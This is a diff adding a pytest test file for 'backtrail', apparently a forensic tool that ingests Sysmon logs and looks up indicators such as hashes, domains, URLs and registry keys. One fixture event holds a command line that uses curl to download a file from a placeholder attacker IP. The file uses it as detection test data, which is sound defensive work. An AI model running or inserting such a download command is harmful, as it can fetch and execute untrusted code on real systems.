@@ -1,0 +1,120 @@
+# SPDX-License-Identifier: Apache-2.0
+"""lookup: what ingest has seen, by whom and since when, and what a no rests on."""
+import json
+import os
+import subprocess
+
+import pytest
+
+from conftest import run
+
+EVENT = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon"}
+
+
+def event(day, **fields):
+    return json.dumps({**EVENT, "UtcTime": f"2017-03-{day:02} 10:00:00.000", "@timestamp": f"2017-03-{day:02}T10:00:00Z", **fields})
+
+
+@pytest.fixture
+def case(tmp_path, monkeypatch):
+    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "BACKTRAIL_KEYS"):
+        monkeypatch.setenv(name, str(tmp_path / name))
+    monkeypatch.setenv("BACKTRAIL_CASE", str(tmp_path / "case"))
+    monkeypatch.setenv("BACKTRAIL_ACTOR", "ana:Ana:analyst")
+    assert run("case", "init", tmp_path / "case").status == 0
+    return tmp_path / "case"
+
+
+def ingest(path, tenant, *more):
+    done = run("ingest", path, "--tenant", tenant, *more)
+    assert done.status == 0, done.err
+    return done.rows
+
+
+def test_values_of_many_kinds_are_found_inside_of_fields(case, tmp_path):
+    log = tmp_path / "a.jsonl"
+    log.write_text("\n".join([
+        event(1, Image="C:\\Windows\\Temp\\payload.com", Hashes="SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"),
+        event(2, QueryName="a.b.evil.example", User="ALPHA\\bob"),
+        event(3, CommandLine="cmd /c curl http://203.0.113.7:8080/x.bin", TargetObject="HKLM\\Software\\Run\\Evil")]) + "\n")
+    ingest(log, "alpha")
+    asked = {("payload.com", "file-name"): 1, ("d41d8cd98f00b204e9800998ecf8427e", "md5"): 1,
+             ("evil.example", "domain"): 1, ("203.0.113.0/24", "cidr"): 1, ("alpha\\bob", "user"): 1,
+             ("c:\\windows\\temp\\payload.com", "path"): 1, ("hxxp://203.0.113[.]7:8080/x.bin", "url"): 1,
+             ("HKLM\\Software\\Run", "registry-key"): 1, ("other.example", "domain"): 0}
+    rows = run("lookup", *{value for value, _ in asked}).rows
+    for (value, kind), count in asked.items():
+        found = [row for row in rows if row["kind"] == kind and value in (row["value"], row.get("asked"))]
+        assert len(found) == 1, (value, kind)
+        assert found[0]["count"] == count and found[0]["seen"] == (count > 0), found
+    name = [row for row in rows if row["value"] == "payload.com"]
+    assert [row["kind"] for row in name] == ["domain", "file-name"]
+    at = name[1]["records"][0]
+    assert log.read_bytes()[at["offset"]:at["offset"] + at["length"]].startswith(b'{"EventID": 1')
+
+
+def test_lists_and_intel_are_asked_at_once(case, tmp_path):
+    log = tmp_path / "a.jsonl"
+    log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
+    ingest(log, "alpha")
+    listed = tmp_path / "list.txt"
+    listed.write_text("# a comment\n203.0.113.7\n\n198.51.100.1\n")
+    rows = run("lookup", "-f", listed).rows
+    assert [(row["value"], row["seen"]) for row in rows] == [("203.0.113.7", True), ("198.51.100.1", False)]
+    assert run("lookup", "-f", "-", stdin=listed.read_bytes()).rows == rows
+    rows = run("lookup", "--intel", listed).rows
+    assert sorted((row["value"], row["seen"]) for row in rows) == [("198.51.100.1", False), ("203.0.113.7", True)]
+
+
+def test_wrong_calls_are_told(case, tmp_path):
+    assert run("lookup").status == 2
+    assert run("lookup", "x", "--kind", "nonsense").status == 2
+    assert run("lookup", "x", "--tenant", "nobody").status == 2
+    nothing = run("lookup", "203.0.113.7")
+    assert nothing.status == 0 and nothing.rows[0]["coverage"] == "none"
+
+
+def test_a_case_that_cannot_be_written_can_be_asked(case, tmp_path):
+    log = tmp_path / "a.jsonl"
+    log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
+    ingest(log, "alpha")
+    before = sorted(path.name for path in (case / "sightings/db").iterdir())
+    for folder in (case / "sightings/db", case / "sightings"):
+        os.chmod(folder, 0o500)
+    try:
+        assert run("lookup", "203.0.113.7").rows[0]["count"] == 1
+        assert sorted(path.name for path in (case / "sightings/db").iterdir()) == before
+    finally:
+        for folder in (case / "sightings", case / "sightings/db"):
+            os.chmod(folder, 0o700)
+
+
+def test_a_full_disk_loses_nothing(case, tmp_path):
+    log = tmp_path / "a.jsonl"
+    log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
+    ingest(log, "alpha")
+    large = tmp_path / "b.jsonl"
+    large.write_text("".join(event(1 + i % 28, DestinationHostname=f"h{i}.evil.example") + "\n" for i in range(20000)))
+    program = os.path.abspath(os.environ.get("BACKTRAIL", "build/release/backtrail"))
+    # No file may grow beyond 256 KiB: the sorted file does, and so does the temporary one.
+    done = subprocess.run(["bash", "-c", 'ulimit -f 256; trap "" XFSZ; exec "$@"', "-", program, "ingest", large, "--tenant", "alpha"],
+                          capture_output=True, check=False, timeout=120)
+    assert done.returncode in (3, 4), done.stderr
+    assert b"error[BT" in done.stderr
+    assert run("lookup", "203.0.113.7").rows[0]["count"] == 1
+    ingest(large, "alpha")
+    assert run("lookup", "evil.example").rows[0]["count"] == 20000
+
+
+def test_a_damaged_index_is_told_and_made_anew(case, tmp_path):
+    log = tmp_path / "a.jsonl"
+    log.write_text("".join(event(1 + i % 28, DestinationHostname=f"h{i}.evil.example") + "\n" for i in range(5000)))
+    ingest(log, "alpha")
+    for file in (case / "sightings/db").glob("*.sst"):
+        bytes_ = bytearray(file.read_bytes())
+        bytes_[100:20000] = b"\xff" * 19900
+        file.write_bytes(bytes_)
+    broken = run("lookup", "h7.evil.example", "--errors", "json")
+    assert broken.status == 4 and broken.codes == {"BT1802"}
+    assert run("case", "reindex").status == 0
+    assert run("lookup", "h7.evil.example").rows[0]["count"] == 1
